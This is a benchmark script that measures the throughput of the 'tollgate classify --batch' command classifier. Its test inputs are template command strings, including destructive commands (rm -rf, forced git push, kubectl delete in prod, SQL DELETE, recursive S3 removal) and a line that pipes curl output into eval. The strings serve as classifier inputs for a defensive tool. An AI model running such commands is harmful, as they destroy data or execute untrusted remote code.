// `tollgate classify --batch` throughput over a generated mix of commands (reads, destructive
// commands of every family, compounds, substitutions), one process. The process start-up (empty
// input) is measured in the same run and subtracted, so the figure is the steady classification rate.
import { spawnSync } from 'node:child_process';
import { scaled } from './mode.mjs';
import { percentile } from './stats.mjs';

const BIN = new URL('../packages/cli/bin/tollgate.js', import.meta.url).pathname;
const N = scaled(60_000, 2_000);
const RUNS = scaled(3, 1);

const TEMPLATES = [
  (i) => `git status --short && git log --oneline -${i % 20}`,
  (i) => `git push --force origin feature-${i}`,
  (i) => `rm -rf build/out-${i}`,
  (i) => `ls -la src/dir${i} | grep -v test | wc -l`,
  (i) => `kubectl delete pod api-${i} -n prod`,
  (i) => `psql -c "DELETE FROM users WHERE id = ${i}"`,
  (i) => `echo "drop table t${i}" > notes-${i}.txt`,
  (i) => `find . -name '*.tmp${i}' -delete`,
  (i) => `docker compose down -v --remove-orphans # ${i}`,
  (i) => `terraform plan -out plan-${i}.bin`,
  (i) => `cat README.md | head -n ${i % 50}`,
  (i) => `eval "$(curl -s https://example.invalid/${i})"`,
  (i) => `npm test -- --grep case-${i}`,
  (i) => `sudo systemctl restart nginx-${i}`,
  (i) => `aws s3 rm s3://bucket-${i}/ --recursive`,
  (i) => `bash -c 'git reset --hard HEAD~${i % 5}'`,
];

function batch(input) {
  const t0 = process.hrtime.bigint();
  const r = spawnSync(process.execPath, [BIN, 'classify', '--batch'], {
    input,
    encoding: 'utf8',
    maxBuffer: 1 << 30,
  });
  const ms = Number(process.hrtime.bigint() - t0) / 1e6;
  if (r.status !== 0) throw new Error(`classify --batch exited ${r.status}: ${r.stderr}`);
  return { ms, lines: r.stdout.length === 0 ? 0 : r.stdout.trimEnd().split('\n').length };
}

export async function run() {
  const input = `${Array.from({ length: N }, (_, i) => JSON.stringify({ command: TEMPLATES[i % TEMPLATES.length](i) })).join('\n')}\n`;
  const med = (xs) =>
    percentile(
      [...xs].sort((a, b) => a - b),
      50,
    );
  const empty = [];
  const full = [];
  for (let i = 0; i < RUNS; i++) {
    empty.push(batch('').ms);
    const r = batch(input);
    if (r.lines !== N) throw new Error(`expected ${N} result lines, got ${r.lines}`);
    full.push(r.ms);
  }
  const startup = med(empty);
  const work = med(full) - startup;
  const rate = N / (work / 1000);
  return {
    title: `tollgate classify --batch (${N.toLocaleString('en')} commands, median of ${RUNS})`,
    rows: [
      { name: 'baseline: process with empty input', value: startup, unit: 'ms' },
      {
        name: 'whole batch, wall',
        value: med(full),
        unit: 'ms',
        baseline: startup,
        ratio: med(full) / startup,
      },
      { name: 'throughput, start-up subtracted', value: rate, unit: 'cmd/s', target: '≥ 20,000 cmd/s' },
      { name: 'throughput, including start-up', value: N / (med(full) / 1000), unit: 'cmd/s' },
    ],
  };
}
